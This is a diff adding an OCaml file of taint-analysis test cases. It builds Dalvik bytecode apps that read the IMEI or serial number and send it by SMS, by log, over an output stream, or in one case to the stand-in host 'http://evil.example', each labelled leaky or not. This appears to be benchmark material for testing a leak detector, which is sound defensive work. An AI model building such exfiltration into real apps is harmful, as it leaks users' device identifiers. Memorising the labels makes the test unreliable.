@@ -1,0 +1,105 @@
+(* Array and list cases: element-sensitivity controls and copies. *)
+
+module B = Pift_dalvik.Bytecode
+open Dsl
+
+let app = App.make
+
+(* Taint parked at index 1; index 0 is sent. *)
+let array_access1 =
+  app ~name:"ArrayAccess1" ~category:"ArraysAndLists" ~leaky:false (fun () ->
+      prog
+        [
+          meth ~name:"main" ~registers:9 ~ins:0
+            (imei 0
+            @ [ B.Const4 (1, 2); B.New_array (2, 1, "object[]") ]
+            @ [ B.Const4 (3, 1); B.Aput_object (0, 2, 3) ]
+            @ [ lit 4 "benign"; B.Const4 (5, 0); B.Aput_object (4, 2, 5) ]
+            @ [ B.Aget_object (6, 2, 5) ]
+            @ [ lit 7 "5554"; send_sms ~dest:7 ~msg:6; B.Return_void ]);
+        ])
+
+(* The tainted element is fetched through a computed index. *)
+let array_access2 =
+  app ~name:"ArrayAccess2" ~category:"ArraysAndLists" ~leaky:true (fun () ->
+      prog
+        [
+          meth ~name:"main" ~registers:10 ~ins:0
+            (imei 0
+            @ [ B.Const4 (1, 2); B.New_array (2, 1, "object[]") ]
+            @ [ B.Const4 (3, 1); B.Aput_object (0, 2, 3) ]
+            @ [ lit 4 "benign"; B.Const4 (5, 0); B.Aput_object (4, 2, 5) ]
+            (* index = 3 - 2 = 1 *)
+            @ [ B.Const4 (6, 3); B.Binop_lit8 (B.Sub, 6, 6, 2) ]
+            @ [ B.Aget_object (7, 2, 6) ]
+            @ [ lit 8 "5554"; send_sms ~dest:8 ~msg:7; B.Return_void ]);
+        ])
+
+(* Char data moved by System.arraycopy. *)
+let array_copy1 =
+  app ~name:"ArrayCopy1" ~category:"ArraysAndLists" ~leaky:true (fun () ->
+      prog
+        [
+          meth ~name:"main" ~registers:10 ~ins:0
+            (imei 0
+            @ [ call "String.length" [ 0 ]; B.Move_result 1 ]
+            @ [ B.New_array (2, 1, "char[]"); B.New_array (3, 1, "char[]") ]
+            @ [ call "String.getChars" [ 0; 2 ] ]
+            @ [ B.Const4 (4, 0) ]
+            @ [ call "System.arraycopy" [ 2; 4; 3; 4; 1 ] ]
+            @ [ call "String.fromChars" [ 3 ]; B.Move_result_object 5 ]
+            @ [ lit 6 "http://evil.example"; http ~url:6 ~body:5;
+                B.Return_void ]);
+        ])
+
+(* A two-slot "list": the clean head is sent. *)
+let list_access1 =
+  app ~name:"ListAccess1" ~category:"ArraysAndLists" ~leaky:false (fun () ->
+      prog
+        [
+          meth ~name:"main" ~registers:9 ~ins:0
+            ([ lit 0 "first"; B.Const4 (1, 2);
+               B.New_array (2, 1, "object[]") ]
+            @ [ B.Const4 (3, 0); B.Aput_object (0, 2, 3) ]
+            @ serial 4
+            @ [ B.Const4 (5, 1); B.Aput_object (4, 2, 5) ]
+            @ [ B.Aget_object (6, 2, 3) ]
+            @ [ lit 7 "TAG"; log ~tag:7 ~msg:6; B.Return_void ]);
+        ])
+
+(* The tainted tail is sent. *)
+let list_access2 =
+  app ~name:"ListAccess2" ~category:"ArraysAndLists" ~leaky:true (fun () ->
+      prog
+        [
+          meth ~name:"main" ~registers:9 ~ins:0
+            ([ lit 0 "first"; B.Const4 (1, 2);
+               B.New_array (2, 1, "object[]") ]
+            @ [ B.Const4 (3, 0); B.Aput_object (0, 2, 3) ]
+            @ serial 4
+            @ [ B.Const4 (5, 1); B.Aput_object (4, 2, 5) ]
+            @ [ B.Aget_object (6, 2, 5) ]
+            @ [ lit 7 "TAG"; log ~tag:7 ~msg:6; B.Return_void ]);
+        ])
+
+(* Raw bytes over an output stream.  Outside the subset. *)
+let device_id_bytes1 =
+  app ~name:"DeviceIdBytes1" ~category:"AndroidSpecific" ~leaky:true
+    ~subset48:false (fun () ->
+      prog
+        [
+          meth ~name:"main" ~registers:3 ~ins:0
+            (imei 0
+            @ [ call "String.getBytes" [ 0 ]; B.Move_result_object 1 ]
+            @ [ call "OutputStream.write" [ 1 ]; B.Return_void ]);
+        ])
+
+let all : App.t list =
+  [
+    array_access1;
+    array_access2;
+    array_copy1;
+    list_access1;
+    list_access2;
+    device_id_bytes1;
+  ]
